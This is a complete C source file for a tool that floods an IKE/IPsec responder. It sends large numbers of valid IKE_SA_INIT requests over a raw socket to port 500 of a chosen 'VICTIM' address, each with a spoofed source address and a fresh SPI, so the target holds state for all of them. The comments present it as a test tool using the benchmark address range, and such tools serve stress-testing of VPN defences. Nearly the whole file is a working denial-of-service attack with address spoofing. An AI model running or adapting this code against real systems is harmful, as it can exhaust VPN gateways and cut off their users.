/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * flood VICTIM NUMBER PER_SECOND: sends so many IKE_SA_INIT requests to port 500 of VICTIM, an
 * IPv4 address, each from another address in 198.18.0.0/15 (RFC 2544: for such tests) and
 * with another SPI.  Each is a good request for AES-GCM-256, HMAC-SHA-256 and Curve25519, so
 * that a responder without defences would keep state for all of them.  Prints how many
 * milliseconds it took.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>

enum { IKE_PORT = 500, SOURCE_PORT = 500, SOURCES = 1 << 17, MSEC = 1000, NSEC_PER_MSEC = 1000000 };

/* RFC 7296 3.1 - 3.4, 3.9: header, SA, KE, Nonce; the zeros are filled in for each request */
struct request {
	uint8_t spi_i[8], spi_r[8], header[12];
	uint8_t sa[40];
	uint8_t ke_header[8], ke[32];
	uint8_t nonce_header[4], nonce[32];
} __attribute__((packed));

struct datagram {
	struct iphdr ip;
	struct udphdr udp;
	struct request request;
} __attribute__((packed));

static const struct request good = {
	.header = { 33, 0x20, 34, 0x08, 0, 0, 0, 0, 0, 0, 0, sizeof(struct request) },
	.sa = {
		34, 0, 0, 40,
		0, 0, 0, 36, 1, 1, 0, 3,                 /* the one proposal, for IKE, no SPI */
		3, 0, 0, 12, 1, 0, 0, 20, 0x80, 14, 1, 0, /* ENCR_AES_GCM_16, 256 bits */
		3, 0, 0, 8, 2, 0, 0, 5,                  /* PRF_HMAC_SHA2_256 */
		0, 0, 0, 8, 4, 0, 0, 31,                 /* Curve25519 */
	},
	.ke_header = { 40, 0, 0, 40, 0, 31, 0, 0 },
	.nonce_header = { 0, 0, 0, 36 },
};

static void fail(const char *what)
{
	fprintf(stderr, "flood: %s: %s\n", what, strerror(errno));
	exit(1);
}

static int64_t now_ms(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return (int64_t)t.tv_sec * MSEC + t.tv_nsec / NSEC_PER_MSEC;
}

/* The checksum of UDP over IPv4 may be left out (RFC 768); the kernel makes the one of IP. */
static void prepare(struct datagram *d, uint32_t victim)
{
	*d = (struct datagram){
		.ip = { .version = 4,
			.ihl = sizeof(d->ip) / 4,
			.ttl = IPDEFTTL,
			.protocol = IPPROTO_UDP,
			.tot_len = htons(sizeof(*d)),
			.daddr = victim },
		.udp = { .uh_sport = htons(SOURCE_PORT),
			 .uh_dport = htons(IKE_PORT),
			 .uh_ulen = htons(sizeof(d->udp) + sizeof(d->request)) },
		.request = good,
	};
	if (getrandom(d->request.ke, sizeof(d->request.ke), 0) != sizeof(d->request.ke) ||
	    getrandom(d->request.nonce, sizeof(d->request.nonce), 0) != sizeof(d->request.nonce))
		fail("getrandom");
}

/* The nth one: from another address, with another SPI and nonce. */
static void vary(struct datagram *d, uint32_t nth)
{
	uint32_t number = htonl(nth + 1);

	d->ip.saddr = htonl((198U << 24 | 18U << 16) + nth % SOURCES);
	memcpy(d->request.spi_i, &number, sizeof(number));
	memcpy(d->request.nonce, &number, sizeof(number));
}

static void send_one(int fd, const struct datagram *d)
{
	const struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr.s_addr = d->ip.daddr };
	while (sendto(fd, d, sizeof(*d), 0, (const void *)&to, sizeof(to)) < 0)
		if (errno != ENOBUFS && errno != EINTR)
			fail("sendto");
}

/* Not before its time, so that they come evenly. */
static void wait_for_turn(int64_t begin_ms, uint32_t nth, uint32_t per_second)
{
	const struct timespec nap = { .tv_nsec = NSEC_PER_MSEC };
	while ((now_ms() - begin_ms) * per_second < (int64_t)nth * MSEC)
		nanosleep(&nap, NULL);
}

int main(int argc, char **argv)
{
	struct datagram d;
	struct in_addr victim;
	uint32_t n = argc == 4 ? (uint32_t)strtoul(argv[2], NULL, 10) : 0;
	uint32_t per_second = argc == 4 ? (uint32_t)strtoul(argv[3], NULL, 10) : 0;

	if (!n || !per_second || inet_pton(AF_INET, argv[1], &victim) != 1) {
		fputs("usage: flood VICTIM NUMBER PER_SECOND\n", stderr);
		return 2;
	}
	int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	if (fd < 0)
		fail("socket");
	prepare(&d, victim.s_addr);
	int64_t begin_ms = now_ms();
	for (uint32_t i = 0; i < n; i++) {
		wait_for_turn(begin_ms, i, per_second);
		vary(&d, i);
		send_one(fd, &d);
	}
	printf("%lld ms\n", (long long)(now_ms() - begin_ms));
	return 0;
}
